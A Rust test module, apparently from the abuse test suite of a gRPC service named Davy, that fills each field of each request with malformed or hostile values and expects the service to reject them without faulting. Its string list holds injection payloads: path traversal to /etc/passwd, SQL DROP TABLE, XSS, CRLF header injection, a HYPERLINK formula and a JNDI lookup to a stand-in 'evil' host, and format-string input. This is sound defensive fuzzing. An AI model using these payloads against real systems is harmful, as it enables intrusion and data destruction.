//! Every field of every request with what does not belong into it: names of nothing, words of other languages, numbers at their
//! ends.

use davy_proto::FILE_DESCRIPTOR_SET;
use prost::Message;
use prost_reflect::{
    DescriptorPool, DynamicMessage, FieldDescriptor, Kind, MessageDescriptor, MethodDescriptor, Value,
};

use super::call_case::{CallCase, Told};
use crate::abuse::house::EVERYTHING;

/// Messages within messages that are gone into.
const DEPTH_MAX: usize = 4;

/// What no name is.
const NAMES: [&str; 12] = [
    "nothing-of-that-name",
    "../../../etc/passwd",
    "' OR '1'='1'; DROP TABLE alarms; --",
    "<script>alert(1)</script>",
    "a\0b",
    "\r\nset-cookie: a=b",
    "=HYPERLINK(\"http://evil\")",
    "\u{202e}\u{200b}\u{feff}",
    "甲醇罐区::::",
    "plant:high:T-gw-1:",
    "${jndi:ldap://evil/a} {{7*7}} %s%n",
    "*",
];

pub(super) fn cases() -> Vec<CallCase> {
    let pool = DescriptorPool::decode(FILE_DESCRIPTOR_SET).expect("Davy's own contract");
    let methods = pool.services().filter(|service| service.full_name().starts_with("davy.v1."));
    methods.flat_map(|service| service.methods().collect::<Vec<_>>()).flat_map(|method| of(&method)).collect()
}

/// A row a field, with a call a value.
fn of(method: &MethodDescriptor) -> Vec<CallCase> {
    let path = format!("/{}/{}", method.parent_service().full_name(), method.name());
    let row = |(place, values): (Vec<FieldDescriptor>, Vec<Value>)| {
        let names: Vec<&str> = place.iter().map(FieldDescriptor::name).collect();
        let name = format!(
            "values/{}.{} with {} as it is not",
            method.parent_service().name(),
            method.name(),
            names.join(".")
        );
        let message = |value: &Value| within(&method.input(), &place, value).encode_to_vec();
        let messages: Vec<Vec<u8>> = values.iter().map(message).collect();
        let bearer = format!("Bearer {EVERYTHING}");
        CallCase::of(&name, &path, Told::NoFault).with("authorization", bearer).messages(&messages)
    };
    leaves(&method.input(), DEPTH_MAX).into_iter().map(row).collect()
}

/// Every field that is no message, where it is, and what does not belong there.
fn leaves(kind: &MessageDescriptor, depth: usize) -> Vec<(Vec<FieldDescriptor>, Vec<Value>)> {
    let mut all = Vec::new();
    for field in kind.fields().filter(|field| !field.is_map()) {
        match field.kind() {
            Kind::Message(_) if depth == 0 => {}
            Kind::Message(inner) => all.extend(
                leaves(&inner, depth - 1)
                    .into_iter()
                    .map(|(place, values)| ([vec![field.clone()], place].concat(), values)),
            ),
            kind => all.push((vec![field], strange(&kind))),
        }
    }
    all
}

fn strange(kind: &Kind) -> Vec<Value> {
    match kind {
        Kind::String => {
            let long = "x".repeat(100_000);
            NAMES.into_iter().chain([long.as_str()]).map(|name| Value::String(name.to_owned())).collect()
        }
        Kind::Bytes => [vec![0; 100_000], vec![0xFF; 3]].map(|bytes| Value::Bytes(bytes.into())).into(),
        Kind::Double => [f64::NAN, f64::INFINITY, f64::MIN, -0.0].map(Value::F64).into(),
        Kind::Float => [f32::NAN, f32::INFINITY, f32::MIN].map(Value::F32).into(),
        Kind::Int32 | Kind::Sint32 | Kind::Sfixed32 => [i32::MIN, -1, i32::MAX].map(Value::I32).into(),
        Kind::Int64 | Kind::Sint64 | Kind::Sfixed64 => {
            [i64::MIN, -1, 253_402_300_800, i64::MAX].map(Value::I64).into()
        }
        Kind::Uint32 | Kind::Fixed32 => [0, u32::MAX].map(Value::U32).into(),
        Kind::Uint64 | Kind::Fixed64 => [0, u64::MAX].map(Value::U64).into(),
        Kind::Bool => vec![Value::Bool(true)],
        Kind::Enum(_) => [-1, 9999, i32::MAX].map(Value::EnumNumber).into(),
        Kind::Message(_) => Vec::new(),
    }
}

/// A message with nothing but that value at that place.
fn within(kind: &MessageDescriptor, place: &[FieldDescriptor], value: &Value) -> DynamicMessage {
    let mut message = DynamicMessage::new(kind.clone());
    let Some((field, rest)) = place.split_first() else { return message };
    let value = match field.kind() {
        Kind::Message(inner) => Value::Message(within(&inner, rest, value)),
        _ => value.clone(),
    };
    message.set_field(field, if field.is_list() { Value::List(vec![value]) } else { value });
    message
}
